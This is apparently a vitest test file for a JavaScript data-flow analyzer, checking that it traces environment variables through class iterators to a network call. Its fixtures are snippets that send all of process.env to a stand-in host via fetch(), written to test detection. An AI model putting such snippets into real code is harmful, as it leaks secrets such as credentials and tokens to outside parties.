import { describe, expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { LABEL, labelNames } from './labels.ts';

/** What a source sends. */
function sent(source: string): string[] {
  return analyzeJs(source).flow.flows.flatMap(({ sink, labels }) =>
    sink === 'network' ? labelNames(labels & ~LABEL.param) : [],
  );
}

const CLASS = (body: string): string => `class All { ${body} }\nclass More extends All {}\n`;
const EACH = `const url = new URL('https://a.weir.test/');\nfor (const [key, value] of new All()) url.searchParams.append(key, value);\nfetch(url);`;

describe('what an instance gives that is gone through', () => {
  test.each([
    ['by a generator', CLASS('*[Symbol.iterator]() { yield* Object.entries(process.env); }') + EACH],
    [
      'later',
      CLASS('async *[Symbol.asyncIterator]() { yield process.env; }') + EACH.replace('for (', 'for await ('),
    ],
    [
      'by what it returns',
      CLASS('[Symbol.iterator]() { return Object.entries(process.env).values(); }') + EACH,
    ],
    [
      'of a class that is extended',
      CLASS('*[Symbol.iterator]() { yield process.env; }') + EACH.replace('All()', 'More()'),
    ],
    [
      'that is spread',
      `${CLASS('*[Symbol.iterator]() { yield process.env; }')}fetch('https://a.weir.test/', { body: JSON.stringify([...new All()]) });`,
    ],
    [
      'that is given to a function',
      `${CLASS('*[Symbol.iterator]() { yield process.env; }')}function send(all) { fetch('https://a.weir.test/', { body: JSON.stringify([...all]) }); }\nsend(new All());`,
    ],
  ])('%s', (_name, source) => {
    expect(sent(source)).toContain('envAll');
  });

  test('what is not gone through is not sent', () => {
    expect(sent(`${CLASS('*own() { yield process.env; }')}${EACH}`)).toEqual([]);
  });
});
